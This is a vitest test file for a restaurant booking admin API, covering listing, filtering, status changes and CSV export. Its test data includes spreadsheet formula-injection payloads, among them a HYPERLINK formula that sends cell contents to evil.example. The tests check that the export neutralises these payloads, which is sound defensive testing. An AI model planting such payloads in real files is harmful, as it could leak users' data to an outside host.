import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bookings } from '#db/schema.ts';
import type { AvailabilitySlot, StoredBooking } from '#shared/booking/schemas.ts';
import { createTestAdmin, signIn } from '#tests/helpers/admin-session.ts';
import { parseCsv } from '#tests/helpers/csv.ts';
import { databaseTargets, startTestApp, type TestApp } from '#tests/helpers/test-app.ts';

// Monday 1 June 2026, 10:00 in London.
const NOW = new Date('2026-06-01T09:00:00Z');
const TUESDAY = '2026-06-02';
const SATURDAY = '2026-06-06';
const SUNDAY = '2026-06-07';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
const AWKWARD_NAME = 'Dan "The Man" O’Brien, Jr.\nSecond line';

/** The bookings CSV's header line as the spec writes it. */
const SPEC_CSV_COLUMNS =
  'Date,Service,Time,Name,Email,Phone,Adults,Children,Total,Status,Event,Allergies,Occasion,Notes,Created';

function booking(overrides: Partial<typeof bookings.$inferInsert> & { reference: string }) {
  return {
    date: TUESDAY,
    service: 'dinner' as const,
    timeSlot: '19:00',
    name: 'Guest',
    email: 'guest@example.com',
    phone: '07700 900000',
    partyAdults: 2,
    partyChildren: 0,
    createdAt: new Date('2026-05-20T13:05:00Z'),
    updatedAt: new Date('2026-05-20T13:05:00Z'),
    ...overrides,
  };
}

describe.each(databaseTargets)('bookings admin API on $name', (target) => {
  let t: TestApp;
  let cookie: string;

  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: { cookie } });
  const patch = (id: string, payload: object) =>
    t.app.inject({ method: 'PATCH', url: `/api/bookings/${id}`, headers: { cookie }, payload });
  const dinnerAt = async (time: string) => {
    const slots = (await t.app.inject({ method: 'GET', url: `/api/availability?date=${TUESDAY}` })).json();
    return (slots as AvailabilitySlot[]).find((slot) => slot.time === time);
  };

  beforeAll(async () => {
    t = await startTestApp(target, NOW);
    await t.database.db.insert(bookings).values([
      booking({
        reference: 'RC-A1',
        name: HOSTILE_NAME,
        phone: '+44 7700 900123',
        allergies: '@SUM(1+1)',
        specialNotes: '-2+3',
        occasion: 'Birthday',
        occasionNotes: 'Cake at 8',
        eventSlug: 'quiz-night',
      }),
      booking({
        reference: 'RC-A2',
        timeSlot: '12:30',
        service: 'lunch',
        name: AWKWARD_NAME,
        partyChildren: 2,
        hasAccessibilityNeeds: true,
        accessibilityNotes: 'Step-free, please',
        status: 'PENDING',
      }),
      booking({ reference: 'RC-B1', date: SATURDAY, name: 'Saturday Guest' }),
      booking({
        reference: 'RC-C1',
        date: SUNDAY,
        timeSlot: '13:00',
        service: 'lunch',
        name: 'Sunday Guest',
      }),
    ]);
    await createTestAdmin(t);
    cookie = await signIn(t);
  });
  afterAll(() => t.close());

  it('lists every booking in the spec’s shape, in date and time order', async () => {
    const response = await get('/api/bookings');
    expect(response.statusCode).toBe(200);
    const list = response.json() as StoredBooking[];
    expect(list.map((entry) => entry.reference)).toEqual(['RC-A2', 'RC-A1', 'RC-B1', 'RC-C1']);
    expect(list[0]).toMatchObject({
      date: TUESDAY,
      service: 'lunch',
      timeSlot: '12:30',
      name: AWKWARD_NAME,
      partyAdults: 2,
      partyChildren: 2,
      partySize: 4,
      status: 'PENDING',
      hasAccessibilityNeeds: true,
      createdAt: '2026-05-20T13:05:00.000Z',
      updatedAt: '2026-05-20T13:05:00.000Z',
    });
    expect(list[0]?._id).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('filters by one date or by a range', async () => {
    const day = (await get(`/api/bookings?date=${SATURDAY}`)).json() as StoredBooking[];
    expect(day.map((entry) => entry.reference)).toEqual(['RC-B1']);
    const range = (await get(`/api/bookings?from=${SATURDAY}&to=${SUNDAY}`)).json() as StoredBooking[];
    expect(range.map((entry) => entry.reference)).toEqual(['RC-B1', 'RC-C1']);
    const from = (await get(`/api/bookings?from=${SUNDAY}`)).json() as StoredBooking[];
    expect(from.map((entry) => entry.reference)).toEqual(['RC-C1']);
  });

  it.each([
    'date=2026-02-30',
    'date=tomorrow',
    `from=${SUNDAY}&to=${SATURDAY}`,
    `date=${SUNDAY}&from=${SATURDAY}`,
  ])('answers 400 JSON for %s', async (query) => {
    const response = await get(`/api/bookings?${query}`);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toHaveProperty('error');
  });

  it('changes a status, moves updatedAt, and a cancelled booking frees its place', async () => {
    const [dinner] = (await get(`/api/bookings?date=${TUESDAY}`))
      .json()
      .filter((entry: StoredBooking) => entry.reference === 'RC-A1') as StoredBooking[];
    expect((await dinnerAt('19:00'))?.remaining).toBe(22);

    t.setNow(new Date('2026-06-01T10:30:00Z'));
    const cancelled = await patch(dinner?._id as string, { status: 'CANCELLED' });
    expect(cancelled.statusCode).toBe(200);
    expect(cancelled.json()).toMatchObject({
      _id: dinner?._id,
      status: 'CANCELLED',
      createdAt: '2026-05-20T13:05:00.000Z',
      updatedAt: '2026-06-01T10:30:00.000Z',
    });
    expect((await dinnerAt('19:00'))?.remaining).toBe(24);

    for (const status of ['PENDING', 'CONFIRMED'] as const) {
      const response = await patch(dinner?._id as string, { status });
      expect(response.json().status).toBe(status);
      expect((await dinnerAt('19:00'))?.remaining).toBe(22);
    }
    t.setNow(NOW);
  });

  it('refuses an unknown status and an unknown booking', async () => {
    const [first] = (await get('/api/bookings')).json() as StoredBooking[];
    for (const payload of [{ status: 'SEATED' }, { status: 'cancelled' }, {}]) {
      const response = await patch(first?._id as string, payload);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toHaveProperty('error');
    }
    for (const id of ['5d1d7a44-96a4-4c9e-9e62-0c3f4f55b3a1', 'RC-A1']) {
      const response = await patch(id, { status: 'CONFIRMED' });
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual({ error: 'Booking not found' });
    }
  });

  it('exports the day as CSV: BOM, the spec’s columns, RFC 4180 quoting and formula-proof cells', async () => {
    const response = await get(`/api/bookings.csv?date=${TUESDAY}&scope=all`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="bookings_${TUESDAY}_all.csv"`,
    );
    const text = response.body;
    expect(text.startsWith('\uFEFFDate,Service,Time,Name,Email,Phone,Adults,Children,Total,Status,')).toBe(
      true,
    );
    expect(text.endsWith('\r\n')).toBe(true);

    const [header, lunch, dinner, ...rest] = parseCsv(text.slice(1));
    expect(header).toEqual(SPEC_CSV_COLUMNS.split(','));
    expect(rest).toEqual([]);
    expect(lunch).toEqual([
      TUESDAY,
      'Lunch',
      '12:30',
      AWKWARD_NAME,
      'guest@example.com',
      '07700 900000',
      '2',
      '2',
      '4',
      'PENDING',
      '',
      '',
      '',
      'Accessibility: Step-free, please',
      '2026-05-20 14:05',
    ]);
    expect(dinner).toEqual([
      TUESDAY,
      'Dinner',
      '19:00',
      `'${HOSTILE_NAME}`,
      'guest@example.com',
      "'+44 7700 900123",
      '2',
      '0',
      '2',
      'CONFIRMED',
      'quiz-night',
      "'@SUM(1+1)",
      'Birthday: Cake at 8',
      "'-2+3",
      '2026-05-20 14:05',
    ]);
    // The hostile cell is quoted as a whole, so no spreadsheet can split it into a live formula.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
  });

  it('exports one service when asked, named after it', async () => {
    const response = await get(`/api/bookings.csv?date=${SUNDAY}&scope=lunch`);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="bookings_${SUNDAY}_lunch.csv"`,
    );
    const rows = parseCsv(response.body.slice(1));
    expect(rows).toHaveLength(2);
    expect(rows[1]?.slice(0, 4)).toEqual([SUNDAY, 'Sunday Roast', '13:00', 'Sunday Guest']);
    const dinner = parseCsv((await get(`/api/bookings.csv?date=${SUNDAY}&scope=dinner`)).body.slice(1));
    expect(dinner).toHaveLength(1);
  });

  it.each(['', 'date=2026-13-01', `date=${TUESDAY}&scope=breakfast`])(
    'answers 400 JSON for a CSV request with %s',
    async (query) => {
      const response = await get(`/api/bookings.csv?${query}`);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toHaveProperty('error');
    },
  );
});
